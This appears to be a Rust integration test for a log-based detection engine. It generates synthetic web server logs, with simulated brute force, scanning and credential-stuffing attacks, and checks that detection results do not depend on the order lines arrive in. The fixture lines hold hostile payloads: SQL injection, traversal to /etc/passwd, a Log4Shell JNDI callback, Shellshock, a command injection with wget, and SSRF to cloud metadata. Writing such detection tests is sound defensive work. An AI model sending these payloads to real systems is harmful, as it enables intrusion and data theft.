//! Detection does not depend on arrival order (MISSION row 37): the same
//! traffic fed in event-time order, with each line a little late at
//! random, and with one host's lines all arriving late (its logs buffered,
//! or its agent behind), fires the same rules for the same keys, as long
//! as the windows are longer than the lateness. The default pack plus a
//! rule of every windowed kind, on two hours of three web servers behind
//! one load balancer, with attacks of every kind the pack detects.

use std::collections::BTreeMap;
use std::path::Path;

use nightowl::detect::rule::DetectKind;
use nightowl::detect::{load_dir, Engine, Firing, RuleSpec};
use nightowl::parse::{parse_line, Format, ParseContext};

use crate::common::{nginx_time, Rng};

const S: i64 = 1_000_000_000;
/// Start of the traffic, unix seconds.
const T0: i64 = 1_730_000_000;
const HOURS: i64 = 2;
const HOSTS: [&str; 3] = ["web-1", "web-2", "web-3"];

/// Extra windowed rules (every window at least two minutes), so each
/// kind is compared, not only those the pack happens to use.
const EXTRA: &str = r#"
id: x-threshold-404-path
title: many 404 on one path
severity: info
match: {field: status, equals: 404}
detect: {kind: threshold, key: client_ip, window: 5m, count: 30}
---
id: x-distinct-paths-host
title: many paths per host
severity: info
detect: {kind: distinct, key: host, field: path, window: 2m, count: 12}
---
id: x-ratio-4xx-client
title: a client mostly refused
severity: info
detect:
  kind: ratio
  key: client_ip
  window: 5m
  numerator: {field: status, gte: 400, lt: 500}
  ratio: 0.8
  min_volume: 20
---
id: x-sequence-scan-then-hit
title: 404s then a 200 on an admin path
severity: info
detect:
  kind: sequence
  key: client_ip
  window: 10m
  count: 5
  first: {field: status, equals: 404}
  then: {all: [{field: status, equals: 200}, {field: path, startswith: /admin}]}
---
id: x-spike-all
title: traffic spike over every host
severity: info
detect: {kind: spike, window: 2m, count: 400, warmup: 10, z: 5, alpha: 0.1}
"#;

fn rules() -> Vec<RuleSpec> {
    // The native pack: the Sigma rules under `rules/sigma/` are stateless
    // matches (order cannot change them) for traffic this test has not.
    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules"));
    let pack = load_dir(dir).expect("the default pack loads");
    let mut specs: Vec<RuleSpec> = pack
        .into_iter()
        .filter(|r| r.file.parent() == Some(dir))
        .map(|r| r.spec)
        .collect();
    for doc in serde_yaml::Deserializer::from_str(EXTRA) {
        specs.push(serde::Deserialize::deserialize(doc).expect("extra rule parses"));
    }
    specs
}

/// One line: (event time unix seconds, host, text).
type Line = (i64, &'static str, String);

fn line(at: i64, host: &'static str, ip: &str, request: &str, status: u16, ua: &str) -> Line {
    (
        at,
        host,
        format!(
            "{host} {ip} - - [{}] \"{request} HTTP/1.1\" {status} 2326 \"-\" \"{ua}\"",
            nginx_time(at, 0)
        ),
    )
}

/// Two hours of traffic: ordinary requests from a few hundred clients,
/// spread over the hosts by the balancer, and attacks at random times,
/// each spread over the hosts too.
fn traffic(seed: u64) -> Vec<Line> {
    let mut r = Rng::new(seed);
    let mut out = Vec::new();
    let pages = [
        "GET /",
        "GET /products/42",
        "GET /static/app.js",
        "GET /api/v1/cart",
        "GET /login",
        "GET /search?q=shoes",
    ];
    let browser = "Mozilla/5.0 (X11; Linux x86_64)";
    let end = T0 + HOURS * 3600;
    for t in T0..end {
        for _ in 0..3 {
            let ip = format!("192.0.2.{}", 1 + r.below(200));
            let host = *r.pick(&HOSTS);
            let status = match r.below(200) {
                0 => 500,
                1..=3 => 404,
                _ => 200,
            };
            let page: &&str = r.pick(&pages);
            out.push(line(t, host, &ip, page, status, browser));
        }
        // One host stops for a while: a flatline.
        if t == T0 + 3000 {
            out.retain(|l| !(l.1 == "web-3" && l.0 >= T0 + 2400 && l.0 < T0 + 3000));
        }
    }
    let mut attacks = 0;
    let mut at = T0 + 600;
    while at < end - 900 {
        let ip = format!("203.0.113.{}", 1 + attacks % 250);
        let host = || HOSTS[(attacks as usize) % 3];
        match attacks % 8 {
            // Brute force over the balancer: failures on every host.
            0 => {
                for i in 0..30 {
                    out.push(line(
                        at + i * 2,
                        HOSTS[i as usize % 3],
                        &ip,
                        "POST /login",
                        401,
                        "python-requests/2.31",
                    ));
                }
                // Then passwords guessed on HTTP Basic authentication,
                // where the server logs the user name tried.
                for i in 0..12 {
                    let (t, h, text) = line(
                        at + 70 + i * 2,
                        HOSTS[i as usize % 3],
                        &ip,
                        "GET /manager/html",
                        401,
                        "Mozilla/4.0 (Hydra)",
                    );
                    let text = text.replacen(&format!("{ip} - - "), &format!("{ip} - tomcat "), 1);
                    out.push((t, h, text));
                }
            }
            // Failures, then the guessed password.
            1 => {
                for i in 0..12 {
                    out.push(line(
                        at + i * 5,
                        HOSTS[i as usize % 3],
                        &ip,
                        "POST /login",
                        401,
                        "curl/8.5",
                    ));
                }
                out.push(line(at + 70, host(), &ip, "POST /login", 302, "curl/8.5"));
            }
            // Content discovery.
            2 => {
                for i in 0..45 {
                    out.push(line(
                        at + i,
                        HOSTS[i as usize % 3],
                        &ip,
                        &format!("GET /backup{i}.old"),
                        404,
                        "gobuster/3.6",
                    ));
                }
                out.push(line(
                    at + 50,
                    host(),
                    &ip,
                    "GET /admin/",
                    200,
                    "gobuster/3.6",
                ));
            }
            // Payloads.
            3 => {
                out.push(line(
                    at,
                    host(),
                    &ip,
                    "GET /products?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
                    200,
                    browser,
                ));
                out.push(line(
                    at + 3,
                    host(),
                    &ip,
                    "GET /static/..%2f..%2f..%2fetc/passwd",
                    404,
                    browser,
                ));
                out.push(line(
                    at + 6,
                    host(),
                    &ip,
                    "GET /",
                    200,
                    "${jndi:ldap://203.0.113.9/a}",
                ));
                out.push(line(
                    at + 9,
                    host(),
                    &ip,
                    "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E",
                    200,
                    browser,
                ));
                out.push(line(
                    at + 12,
                    host(),
                    &ip,
                    "GET /cgi-bin/status",
                    200,
                    "() { :; }; /bin/bash -c id",
                ));
                out.push(line(
                    at + 15,
                    host(),
                    &ip,
                    "GET /ping?host=127.0.0.1%3Bcat%20/etc/hosts%3B%20wget%20http://x/y",
                    200,
                    browser,
                ));
                out.push(line(at + 18, host(), &ip, "GET /.env", 404, browser));
                // rules/injection.yaml, one probe each.
                for probe in [
                    "GET /search?q=%7B%7B7*7%7D%7D",
                    "GET /login?user=admin&pass%5B%24ne%5D=x",
                    "GET /people?q=*)(uid=*))(%7C(uid=*",
                    "GET /%0d%0aSet-Cookie:crlf=injection",
                    "GET /fetch?url=http://169.254.169.254/latest/meta-data/",
                    "GET /api/session?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
                    "GET /api/user?__proto__%5BisAdmin%5D=true",
                    // rules/scanners.yaml: traces, exploit endpoints, proxies.
                    "GET /api?url=http://c59kq3ab2a8cuc0n5ls0.oast.fun",
                    "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                    "CONNECT mx.example.com:25",
                ] {
                    out.push(line(at + 18, host(), &ip, probe, 200, browser));
                }
                for (i, panel) in [
                    "/wp-admin/",
                    "/phpmyadmin/",
                    "/administrator/",
                    "/manager/html",
                ]
                .iter()
                .enumerate()
                {
                    out.push(line(
                        at + 21 + i as i64,
                        host(),
                        &ip,
                        &format!("GET {panel}"),
                        404,
                        browser,
                    ));
                }
            }
            // A 5xx storm on one host for three minutes.
            4 => {
                let h = host();
                for i in 0..180 {
                    for k in 0..3 {
                        let status = if k == 0 { 200 } else { 503 };
                        out.push(line(
                            at + i,
                            h,
                            &format!("198.51.100.{}", 1 + (i + k) % 50),
                            "GET /api/v1/cart",
                            status,
                            browser,
                        ));
                    }
                }
            }
            // A traffic spike on one host.
            5 => {
                let h = host();
                for i in 0..1200 {
                    out.push(line(
                        at + i / 20,
                        h,
                        &format!("198.51.100.{}", 1 + i % 90),
                        "GET /",
                        200,
                        browser,
                    ));
                }
            }
            // Big downloads by one client.
            6 => {
                for i in 0..40 {
                    let mut l = line(at + i * 3, host(), &ip, "GET /export.zip", 200, browser);
                    l.2 = l.2.replace(" 2326 ", " 52428800 ");
                    out.push(l);
                }
            }
            // Credential stuffing: many users, many POSTs.
            _ => {
                for i in 0..70 {
                    let mut l = line(
                        at + i * 3,
                        HOSTS[i as usize % 3],
                        &ip,
                        "POST /login",
                        if i % 9 == 0 { 302 } else { 401 },
                        "python-requests/2.31",
                    );
                    l.2 = l.2.replacen(" - - [", &format!(" - user{i} ["), 1);
                    out.push(l);
                }
            }
        }
        attacks += 1;
        at += 300 + r.below(600) as i64;
    }
    // Credential stuffing from 150 addresses, one attempt each in five
    // minutes, nine in ten refused: only the endpoint's failure share
    // shows it.
    for i in 0..150 {
        let status = if i % 10 == 0 { 302 } else { 401 };
        out.push(line(
            T0 + 1200 + i * 2,
            HOSTS[i as usize % 3],
            &format!("198.18.{}.{}", i / 200, 1 + i % 200),
            "POST /api/v1/auth/login",
            status,
            "python-requests/2.31",
        ));
    }
    out.sort_by_key(|l| l.0);
    out
}

/// Feeds `lines` in the given arrival order; each line's source is its
/// host, arriving `arrival(line)` seconds after T0.
fn run(rules: &[RuleSpec], lines: &[&Line], arrival: impl Fn(&Line) -> i64) -> Vec<Firing> {
    let mut engine = Engine::new(rules).unwrap_or_else(|(id, e)| panic!("{id}: {}", e.message));
    let ctx = ParseContext {
        now_nanos: (T0 + 86_400) * S,
    };
    let mut out = Vec::new();
    for l in lines {
        let event = parse_line(l.2.as_bytes(), Format::Auto, &ctx).expect("generated line parses");
        engine.set_origin(&["default", l.1], Some(arrival(l) * S));
        engine.evaluate_source(&event, &l.2, l.1, l.0 * S, "default", &mut out);
    }
    engine.tick((T0 + HOURS * 3600 + 3600) * S, &mut out);
    for st in engine.stats() {
        assert_eq!(st.too_late, 0, "{}: lines left out", st.id);
    }
    out
}

/// Firings by (rule, key): how many, and for the kinds whose count at
/// firing does not depend on the order lines arrive in, those counts. A
/// burn rate counts once: it fires again while the budget still burns, and
/// when it crosses depends on which line of a bucket came last (as a
/// Prometheus rule's depends on when it is evaluated).
fn summary(
    rules: &[RuleSpec],
    firings: &[Firing],
) -> BTreeMap<(String, String), (usize, Vec<u64>)> {
    let kind: BTreeMap<&str, DetectKind> = rules
        .iter()
        .map(|r| (r.id.as_str(), r.detect.kind))
        .collect();
    let mut m: BTreeMap<(String, String), (usize, Vec<u64>)> = BTreeMap::new();
    for f in firings {
        let e = m.entry((f.rule_id.clone(), f.key.clone())).or_default();
        if kind.get(f.rule_id.as_str()) == Some(&DetectKind::BurnRate) {
            e.0 = 1;
            continue;
        }
        e.0 += 1;
        if matches!(
            kind.get(f.rule_id.as_str()),
            Some(DetectKind::Threshold | DetectKind::Distinct | DetectKind::Match)
        ) {
            e.1.push(f.count);
        }
    }
    for v in m.values_mut() {
        v.1.sort();
    }
    m
}

fn diff(
    want: &BTreeMap<(String, String), (usize, Vec<u64>)>,
    got: &BTreeMap<(String, String), (usize, Vec<u64>)>,
) -> Vec<String> {
    let mut keys: Vec<&(String, String)> = want.keys().chain(got.keys()).collect();
    keys.sort();
    keys.dedup();
    keys.into_iter()
        .filter(|k| want.get(*k) != got.get(*k))
        .map(|k| {
            format!(
                "{k:?}: in order {:?}, shuffled {:?}",
                want.get(k),
                got.get(k)
            )
        })
        .collect()
}

#[test]
fn shuffled_arrival_fires_like_time_order() {
    let rules = rules();
    let lines = traffic(7);
    let ordered: Vec<&Line> = lines.iter().collect();
    let want = summary(&rules, &run(&rules, &ordered, |l| l.0));
    // Every kind of the pack and of the extra rules fired: the comparison
    // covers them all, but the SLO rules of logs without a virtual host:
    // every line here names its host.
    let without_host = [
        "web-route-slo-burn-nohost",
        "web-site-slo-burn",
        "web-site-slo-burn-slow",
    ];
    let fired: std::collections::BTreeSet<&str> = want.keys().map(|k| k.0.as_str()).collect();
    // The pattern rules read application logs' levels; access logs name
    // none (their order-independence is the engine's unit tests').
    let quiet_kinds = [
        DetectKind::NewValue,
        DetectKind::NewPattern,
        DetectKind::PatternSpike,
    ];
    for r in &rules {
        if !quiet_kinds.contains(&r.detect.kind) && !without_host.contains(&r.id.as_str()) {
            assert!(
                fired.contains(r.id.as_str()),
                "{} never fired: {fired:?}",
                r.id
            );
        }
    }

    // Each line up to 20 s late, at random (Apache logs a request's
    // start; agents batch): a bounded shuffle.
    let mut r = Rng::new(11);
    let mut jittered: Vec<(i64, &Line)> = lines
        .iter()
        .map(|l| (l.0 * 1000 + r.below(20_000) as i64, l))
        .collect();
    jittered.sort_by_key(|(arrival, _)| *arrival);
    let order: Vec<&Line> = jittered.iter().map(|(_, l)| *l).collect();
    let got = summary(&rules, &run(&rules, &order, |l| l.0 + 20));
    let d = diff(&want, &got);
    assert!(
        d.is_empty(),
        "jittered arrival fired differently:\n{}",
        d.join("\n")
    );

    // web-2 a minute and a half behind the others all along (its access
    // log buffered): every one of its lines arrives after newer lines of
    // the same keys from web-1 and web-3.
    let lag = |l: &Line| if l.1 == "web-2" { l.0 + 90 } else { l.0 };
    let mut behind: Vec<&Line> = lines.iter().collect();
    behind.sort_by_key(|l| lag(l));
    let got = summary(&rules, &run(&rules, &behind, lag));
    let d = diff(&want, &got);
    assert!(
        d.is_empty(),
        "a host behind fired differently:\n{}",
        d.join("\n")
    );
}
